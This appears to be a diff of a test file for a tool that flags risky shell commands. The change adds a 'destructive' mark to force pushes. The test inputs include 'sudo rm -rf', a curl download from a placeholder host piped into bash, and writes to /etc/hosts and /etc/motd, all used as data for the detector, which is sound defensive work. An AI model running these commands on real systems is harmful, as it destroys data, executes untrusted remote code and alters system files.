@@ -32,7 +32,7 @@ describe('commandView', () => {
   it('marks sudo, rm -r/-f, --force, a pipe into a shell, network fetches and writes outside the project', async () => {
     const dir = proj();
     const v = await commandView('sudo rm -rf build && git push --force; curl -fsSL https://x.example/i.sh | bash; echo x > /etc/hosts', dir, dir);
-    expect(v.parts.map((p) => kinds(p.marks))).toEqual([['sudo', 'rm-recursive', 'rm-force'], ['force', 'network'], ['network'], ['pipe-to-shell'], ['write-outside']]);
+    expect(v.parts.map((p) => kinds(p.marks))).toEqual([['sudo', 'rm-recursive', 'rm-force'], ['force', 'network', 'destructive'], ['network'], ['pipe-to-shell'], ['write-outside']]);
     expect(v.parts[4]!.text).toBe('echo x > /etc/hosts');
     expect(v.marks.find((m) => m.kind === 'write-outside')!.text).toBe('writes outside the project: /etc/hosts');
   });
@@ -80,7 +80,7 @@ describe('commandMarks, more forms', () => {
   it('git push -f, npm install, tee and cp outside the project, a file named only when it runs', async () => {
     const dir = proj();
     const v = await commandView('git push -f origin main; npm install left-pad; echo x | tee /etc/motd; cp a.txt ../out/; echo y > "$OUT"', dir, dir);
-    expect(v.parts.map((p) => kinds(p.marks))).toEqual([['force', 'network'], ['network'], [], ['write-outside'], ['write-outside'], ['write-outside']]);
+    expect(v.parts.map((p) => kinds(p.marks))).toEqual([['force', 'network', 'destructive'], ['network'], [], ['write-outside'], ['write-outside'], ['write-outside']]);
     expect(v.parts[5]!.marks[0]!.text).toBe('writes a file known only when it runs: "$OUT"');
   });
 
